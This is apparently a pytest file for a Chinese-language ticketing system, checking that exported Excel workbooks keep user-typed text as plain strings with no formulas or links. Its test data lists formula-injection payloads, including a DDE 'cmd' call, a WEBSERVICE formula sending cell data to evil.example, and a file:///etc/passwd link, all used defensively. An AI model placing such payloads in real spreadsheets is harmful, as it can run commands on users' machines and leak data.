"""Excel files we write: what people typed is text in them, whatever it looks like."""

import warnings
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from lib.deeds import perform
from lib.sheets import workbook
from lib.tickets import find
from lib.tickets.find import Filter
from tests.cast import LEAK, Cast
from tests.pages.payloads import PAYLOADS

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","点这里")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "https://evil.example/",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "1e5",
    "00123",
    "2025-11-21",
    "=" * 300,
)


def cells(content: bytes) -> list[list[Any]]:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return [list(row) for row in load_workbook(BytesIO(content)).active.iter_rows()]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_is_text(text: str) -> None:
    made = workbook("工单", ["说明", text], [[text, "x"]])
    for row in cells(made):
        assert {cell.data_type for cell in row} == {"s"}
        assert not any(cell.hyperlink for cell in row)
    assert text.strip() in cells(made)[1][0].value


def test_no_payload_becomes_a_formula_or_a_link() -> None:
    texts = [text for text in (*PAYLOADS, *FORMULAS) if text]
    made = workbook("工单", ["说明"], [[text] for text in texts])
    with ZipFile(BytesIO(made)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        assert not [name for name in parts.namelist() if "_rels/sheet" in name or "externalLink" in name]
    assert {cell.data_type for row in cells(made)[1:] for cell in row} <= {"s", "n"}  # n: nothing in it


def test_an_exported_list_holds_text_only(cast: Cast) -> None:
    for text in FORMULAS[:8]:
        cast.receive(answers={**LEAK, "summary": text})
    rows = perform(find.export_tickets, cast.manager, None, by=Filter(), sort="no")
    made = workbook("工单", ["编号", "报修内容"], [[row.no, row.summary] for row in rows])
    assert [row[1].value for row in cells(made)[1:]] == [text.strip() for text in FORMULAS[:8]]
    assert {cell.data_type for row in cells(made) for cell in row} == {"s"}


def test_an_empty_list_is_a_file_too() -> None:
    assert [[cell.value for cell in row] for row in cells(workbook("工单", ["编号"], []))] == [["编号"]]


def test_a_very_long_text_does_not_lose_the_file() -> None:
    made = workbook("工" * 99, ["说明"], [["长" * 40_000], ["后面"]])
    assert cells(made)[2][0].value == "后面"
